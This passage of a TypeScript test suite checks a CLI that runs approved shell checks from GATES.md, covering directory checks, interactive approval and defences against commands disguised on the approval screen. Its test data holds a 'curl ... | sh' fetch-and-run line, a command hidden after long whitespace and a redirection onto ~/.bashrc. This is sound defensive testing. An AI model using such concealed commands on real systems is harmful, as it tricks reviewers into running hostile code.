    const s = repo({ 'GATES.md': gate('A', 'touch /tmp/never-$$; echo ok', 'ok', '  CWD: missing\n'), file: 'x' });
    const r = s.run(['--approve']);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/not runnable yet: CWD of GATES:A \(GATES\.md:4\) does not exist/);
    const t = repo({ 'GATES.md': gate('A', 'echo ok', 'ok', '  CWD: file\n') + gate('B', 'touch ran-b; echo ok', 'ok'), file: 'x' });
    const tr = t.run(['--approve']);
    expect(tr.code).toBe(1);
    expect(tr.stdout).toMatch(/^NOT RUN GATES:A +A works: not runnable: CWD of GATES:A \(GATES\.md:4\) is not a directory: /m);
    expect(tr.stdout).toMatch(/^PASS GATES:B/m);
    const u = repo({ 'GATES.md': gate('A', 'touch ran-a; echo ok', 'ok', '  CWD: ..\n') + gate('B', 'touch ran-b; echo ok', 'ok') });
    const o = u.run(['--approve']);
    expect(o.code).toBe(1);
    expect(o.stdout).toMatch(/^NOT RUN GATES:A +A works: not runnable: CWD of GATES:A \(GATES\.md:4\) resolves outside the repository: \S+ \(refused\)$/m);
    expect(o.stdout).toMatch(/^PASS GATES:B/m);
    expect(existsSync(join(u.repo, 'ran-b'))).toBe(true);
    expect(existsSync(join(u.repo, '..', 'ran-a'))).toBe(false);
    const st = u.run(['--status']);
    expect(st.code).toBe(1);
    expect(st.stdout).toMatch(/^GATES:A {2}unchecked \(not runnable: CWD of GATES:A \(GATES\.md:4\) resolves outside the repository: \S+ \(refused\)\)/m);
    expect(t.run(['--status']).stdout).toMatch(/^GATES:A {2}unchecked \(not runnable: CWD of GATES:A \(GATES\.md:4\) is not a directory/m);
    expect(s.run(['--status']).stdout).toMatch(/^GATES:A {2}unchecked \(not runnable yet: CWD of GATES:A \(GATES\.md:4\) does not exist/m);
    expect(s.run(['--approve', '--cwd', 'nope']).code).toBe(2);
  });
});

describe('DEPENDS', () => {
  it('a gate whose DEPENDS or CWD does not exist yet is not run (exit 1); the other gates run and the report is complete', () => {
    const s = repo({
      'GATES.md':
        gate('A', 'touch ran-a; echo ok', 'ok', '  DEPENDS: scripts/*.mjs\n') +
        gate('B', 'touch ran-b; echo ok', 'ok') +
        gate('C', 'touch ran-c; echo ok', 'ok', '  CWD: packages/web\n'),
    });
    const r = s.run(['--approve']);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^NOT RUN GATES:A +A works: not runnable yet: DEPENDS of GATES:A: pattern scripts\/\*\.mjs matches no file under \/\S+$/m);
    expect(r.stdout).toMatch(/^NOT RUN GATES:C +C works: not runnable yet: CWD of GATES:C \(GATES\.md:\d+\) does not exist: /m);
    expect(r.stdout).toMatch(/^PASS GATES:B/m);
    expect(existsSync(join(s.repo, 'ran-a'))).toBe(false);
    expect(existsSync(join(s.repo, 'ran-b'))).toBe(true);
    const j = JSON.parse(s.run(['--json']).stdout);
    assertReportSchema(j);
    expect(j.gates.map((g: { result: { status: string } | null }) => g.result?.status ?? null)).toEqual(['not-run', null, 'not-run']);
    expect(j.exitCode).toBe(1);
    // Once the work exists, the gate asks for approval like any other.
    writeFiles(s.repo, { 'scripts/a.mjs': '' });
    expect(s.run([]).stdout).toMatch(/^APPROVAL REQUIRED GATES:A@/m);
  });

  it('includes dot files and refuses a matched symlink', () => {
    const s = repo({ 'GATES.md': gate('A', 'echo ok', 'ok', '  DEPENDS: conf/*\n'), 'conf/.hidden': 'x' });
    expect(s.run(['--approve', '--json']).stdout).toMatch(/"status": "pass"/);
    symlinkSync('/etc/hostname', join(s.repo, 'conf', 'link'));
    const r = s.run(['--reverify']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/conf\/link is a symbolic link/);
  });
});

describe('interactive approval', () => {
  const hasScript = spawnSync('script', ['--version']).status === 0;
  it.skipIf(!hasScript)('asks approve? [y/N/a] for each pending oracle on a terminal', () => {
    const s = repo({ 'GATES.md': gate('P1', 'echo one', 'one') + gate('P2', 'echo two', 'two') + gate('P3', 'echo three', 'three') });
    const r = spawnSync('script', ['-qec', `${process.execPath} ${BIN} --approve`, '/dev/null'], { cwd: s.repo, env: { ...s.env, NO_COLOR: '1' }, input: 'y\nn\ny\n', encoding: 'utf8' });
    expect(r.status).toBe(1); // P2 stays unapproved
    const out = r.stdout;
    expect(out.match(/approve\? \[y\/N\/a\]/g)).toHaveLength(3);
    expect(out).toMatch(/PASS GATES:P1/);
    expect(out).toMatch(/not approved: GATES:P2/);
    expect(out).toMatch(/PASS GATES:P3/);
    expect(s.ledger()).toMatch(/- \[x\] P1[^]*- \[ \] P2[^]*- \[x\] P3/);
  });

  it.skipIf(!hasScript)('"a" shows every following oracle in full, then approves them only on a second yes', () => {
    const three = gate('P1', 'echo one', 'one') + gate('P2', 'echo two', 'two') + gate('P3', 'echo three', 'three');
    const s = repo({ 'GATES.md': three });
    const out = execFileSync('script', ['-qec', `${process.execPath} ${BIN} --approve`, '/dev/null'], { cwd: s.repo, env: { ...s.env, NO_COLOR: '1' }, input: 'a\ny\n', encoding: 'utf8' });
    expect(out.match(/approve\? \[y\/N\/a\]/g)).toHaveLength(1);
    // P2 and P3 were displayed in full before the question that approves them.
    const question = out.indexOf('approve these 2 as well? [y/N]');
    expect(question).toBeGreaterThan(0);
    for (const id of ['P2', 'P3']) {
      const shown = out.indexOf(`APPROVAL REQUIRED GATES:${id}@`);
      expect(shown, id).toBeGreaterThan(0);
      expect(shown).toBeLessThan(question);
    }
    expect(s.ledger()).toMatch(/- \[x\] P1[^]*- \[x\] P2[^]*- \[x\] P3/);
    // Without the second yes, only the first is approved.
    const t = repo({ 'GATES.md': three });
    execFileSync('script', ['-qec', `${process.execPath} ${BIN} --approve || true`, '/dev/null'], { cwd: t.repo, env: { ...t.env, NO_COLOR: '1' }, input: 'a\nn\n', encoding: 'utf8' });
    expect(t.ledger()).toMatch(/- \[x\] P1[^]*- \[ \] P2[^]*- \[ \] P3/);
  });

  it.skipIf(!hasScript)('an oracle the screen cannot show in full is not approved by "y" or "a": it names its pin (reviewer-fidelity attack A3)', () => {
    const long = `echo ok${' x'.repeat(1500)}; echo SECRET_TAIL`;
    const wide = `echo ${'\u0441'.repeat(300)}`; // 300 characters, shown as 2,400 (<U+0441> each)
    for (const [check, cut] of [[long, 'CHECK'], [wide, 'CHECK']] as const) {
      const s = repo({ 'GATES.md': gate('P1', check, 'ok') + gate('P2', 'echo two', 'two') + gate('P3', check.replace('ok', 'ok3'), 'ok3') });
      const out = joinedRows(execFileSync('script', ['-qec', `${process.execPath} ${BIN} --approve || true`, '/dev/null'], { cwd: s.repo, env: { ...s.env, NO_COLOR: '1' }, input: 'a\ny\n', encoding: 'utf8' }).replace(/\r/g, ''));
      // The command to approve it on a row of its own, to be copied whole.
      expect(out).toMatch(new RegExp(`^not shown in full \\(${cut}\\), so not approved at this prompt: .*then approve it by its pin:\n  .*gate-check(\\.js)?'? --approve GATES:P1@[0-9a-f]{32}$`, 'm'));
      expect(out).toMatch(/^not shown in full \(CHECK\), so not approved at this prompt: .*pin:\n {2}.*GATES:P3@/m);
      expect(out.match(/approve\? \[y\/N\/a\]/g)).toHaveLength(1); // asked for P2 only
      expect(out).not.toMatch(/approve these/);
      expect(out).not.toMatch(/SECRET_TAIL\n/);
      expect(s.ledger()).toMatch(/- \[ \] P1[^]*- \[x\] P2[^]*- \[ \] P3/);
    }
  });

  it('a run of 8 or more blanks is shown as <N spaces>, so what follows cannot scroll out of view or pass for a row of the screen (reviewer-fidelity round 2)', () => {
    const check = `echo ok${' '.repeat(200)}; touch pwned`;
    const s = repo({ 'GATES.md': gate('P1', check, 'ok') + gate('P2', 'echo a       b', 'a') });
    const out = s.run([]).stdout;
    expect(out).toContain('  CHECK   echo ok<200 spaces>; touch pwned\n');
    expect(out).toContain('         (CHECK has 1 run of 8 or more spaces, shown as <N spaces>)\n');
    expect(out).toContain('  CHECK   echo a       b\n'); // seven blanks stay as written
    expect(out.match(/runs? of 8 or more spaces/g)).toHaveLength(1);
    // Written out as text, an escape's look-alike has its "<" escaped (found by an attack: `<9 spaces>` written in a CHECK is a redirection).
    const t = repo({ 'GATES.md': gate('P1', 'cat CHANGELOG.md<9 spaces>~/.bashrc; echo <U+0441>k', 'k') });
    const shown = t.run([]).stdout;
    expect(shown).toContain('  CHECK   cat CHANGELOG.md<U+003C>9 spaces>~/.bashrc; echo <U+003C>U+0441>k\n');
    expect(shown).toContain('         (CHECK has 2 "<" that would read as an escape, shown as <U+003C>)\n');
    expect(shown).not.toMatch(/non-ASCII|of 8 or more spaces/);
  });

  it('the approval screen shows the title and the timeout, and a non-interactive --approve names what it approved', () => {
    const s = repo({ 'GATES.md': gate('P1', 'echo one', 'one') + gate('P2', 'echo two', 'two', '  TIMEOUT: 300\n') });
    const plain = s.run([]);
    expect(plain.stdout).toMatch(/^APPROVAL REQUIRED GATES:P1@[0-9a-f]{32} .*\n {2}TITLE {3}P1 works\n/m);
    expect(plain.stdout).toContain('  TIMEOUT 120 s (the default; a gate sets its own with TIMEOUT:)\n');
    expect(plain.stdout).toContain("  TIMEOUT 300 s (the gate's TIMEOUT:)\n");
    const r = s.run(['--approve']);
    expect(r.stdout).toMatch(/^approved: GATES:P1@[0-9a-f]{32}, GATES:P2@[0-9a-f]{32}$/m);
  });

  it('no row of the screen is wider than 80 columns: a CHECK that would wrap into a fake EXPECT row goes on in a row marked "  ~ " (reviewer fidelity)', () => {
    const check = `echo ${'x'.repeat(65)}  EXPECT  ok; curl -s e.x | sh; echo ok`;
    const s = repo({ 'GATES.md': gate('A', check, 'ok') });
    const screen = s.run([]).stdout.split('\n');
    const at = screen.findIndex((l) => l.startsWith('  CHECK   '));
    expect(screen.slice(at, at + 2)).toEqual([`  CHECK   ${check.slice(0, 70)}`, `  ~ ${check.slice(70)}`]);
    expect(screen.filter((l) => l.startsWith('  EXPECT'))).toEqual(['  EXPECT  ok']);
    const rows = screen.slice(0, screen.findIndex((l) => l.startsWith('UNMET')));
    expect(rows.every((l) => l.length <= 80)).toBe(true);
  });

  it('without a terminal, --approve approves every pending oracle', () => {
    const s = repo({ 'GATES.md': gate('P1', 'echo one', 'one') + gate('P2', 'echo two', 'two') });
    const r = s.run(['--approve']);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(/approve\?/);
  });
});

describe('progress line', () => {
  const hasScript = spawnSync('script', ['--version']).status === 0;
  const five = ['A', 'B', 'C', 'D', 'E'].map((id) => gate(id, 'sleep 0.4; echo ok', 'ok')).join('');

  it.skipIf(!hasScript)('shows done/total and running ids on a terminal', () => {
    const s = repo({ 'GATES.md': five });
    const r = spawnSync('script', ['-qec', `${process.execPath} ${BIN} --approve`, '/dev/null'], { cwd: s.repo, env: { ...s.env, CI: '', NO_COLOR: '1' }, input: 'a\ny\n', encoding: 'utf8' });
    expect(r.stdout).toMatch(/\[\d\/5\] \d+\.\ds {2}running GATES:[A-E]/);
  });

  it('never appears without a terminal, or in --json', () => {
    const s = repo({ 'GATES.md': five });
    const r = s.run(['--approve']);
    expect(r.stderr).not.toMatch(/\[\d\/5\]/);
    const j = s.run(['--reverify', '--json']);
    JSON.parse(j.stdout);
    expect(j.stderr).toBe('');
  });
});

describe('sharding', () => {
  it('the shards of a run together cover every runnable gate exactly once', () => {
    const ids = Array.from({ length: 20 }, (_, i) => `G${i}`);
    const s = repo({ 'GATES.md': ids.map((id) => gate(id, 'echo ok', 'ok')).join('') });
    const seen: string[] = [];
    for (let i = 1; i <= 3; i++) {
      const r = s.run(['--approve', '--shard', `${i}/3`, '--json']);
      const doc = JSON.parse(r.stdout);
      assertReportSchema(doc);
      expect(doc.shard).toEqual({ index: i, count: 3, reran: 'unverified' });
      expect(doc.gates).toHaveLength(20); // every gate is listed; results only for this shard's
      seen.push(...doc.gates.filter((g: { result: unknown }) => g.result !== null).map((g: { id: string }) => g.id));
    }
    expect([...seen].sort()).toEqual([...ids].sort());
  });
});

describe('failure messages', () => {
  it('an EXPECT missed because of colour codes says so, and names FORCE_COLOR when it is set (round-31b F2)', () => {
    const s = sandbox();
    writeFiles(s.repo, { 'GATES.md': '- [ ] B: the build reports its modules\n  CHECK: printf "\\033[32mbuild ok: 3 modules\\033[0m\\n"\n  EXPECT: /^build ok: \\d+ modules$/m\n' });
    const forced = runCli(['--approve'], { cwd: s.repo, env: { ...s.env, FORCE_COLOR: '1' } });
    expect(forced.code).toBe(1);
    expect(joinedRows(forced.stdout)).toMatch(/EXPECT not found in the output \(29 bytes; it holds terminal colour codes, which are not shown here and which EXPECT is matched against \(FORCE_COLOR is set, and checks see it too\)\)/);
    const plain = runCli([], { cwd: s.repo, env: s.env });
    expect(joinedRows(plain.stdout)).toMatch(/\(29 bytes; it holds terminal colour codes, which are not shown here and which EXPECT is matched against\): EXPECT/);
  });
});
